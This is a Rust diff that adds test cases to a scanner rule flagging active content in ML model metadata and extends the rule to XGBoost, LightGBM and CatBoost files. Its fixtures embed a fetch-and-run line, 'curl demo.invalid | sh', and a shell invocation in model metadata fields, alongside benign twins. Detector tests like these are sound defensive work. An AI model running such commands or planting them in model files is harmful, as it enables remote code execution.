@@ -6,7 +6,7 @@ use crate::facts::Facts;
 use crate::rules::{Check, Example, Findings, Light, Rule};
 use crate::samples::coreml;
 use crate::samples::graph::Onnx;
-use crate::samples::{File, one, tensor};
+use crate::samples::{File, boosting, one, tensor};
 use crate::text;
 
 /// Metadata that would act where it is shown or used.
@@ -91,6 +91,52 @@ pub static RULE: Rule = Rule {
             fires: &[],
         },
         Example {
+            name: "xgboost-attribute",
+            files: || {
+                one(
+                    "model.json",
+                    boosting::Xgboost::new()
+                        .set("/learner/attributes/note", serde_json::json!("curl demo.invalid | sh"))
+                        .json(),
+                )
+            },
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "xgboost-attribute-twin",
+            files: || {
+                one(
+                    "model.json",
+                    boosting::Xgboost::new()
+                        .set("/learner/attributes/note", serde_json::json!("trained on curls"))
+                        .json(),
+                )
+            },
+            fires: &[],
+        },
+        Example {
+            name: "lightgbm-parameter",
+            files: || {
+                one(
+                    "model.txt",
+                    boosting::LightGbm::new()
+                        .parameter("convert_model", "sh -c 'echo weighbridge-demo'")
+                        .build(),
+                )
+            },
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "lightgbm-parameter-twin",
+            files: || {
+                one(
+                    "model.txt",
+                    boosting::LightGbm::new().parameter("convert_model", "gbdt_prediction.cpp").build(),
+                )
+            },
+            fires: &[],
+        },
+        Example {
             name: "coreml",
             files: || one("model.mlmodel", coreml::described("a <script>void 0</script> b")),
             fires: &["metadata-active-content"],
@@ -118,8 +164,10 @@ fn encoded(length: usize) -> String {
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
     for (place, key, value) in facts.metadata() {
-        if !matches!(place.format(), "coreml" | "gguf" | "onnx" | "safetensors")
-            || key.starts_with("tokenizer.")
+        if !matches!(
+            place.format(),
+            "catboost" | "coreml" | "gguf" | "lightgbm" | "onnx" | "safetensors" | "xgboost"
+        ) || key.starts_with("tokenizer.")
         {
             continue;
         }
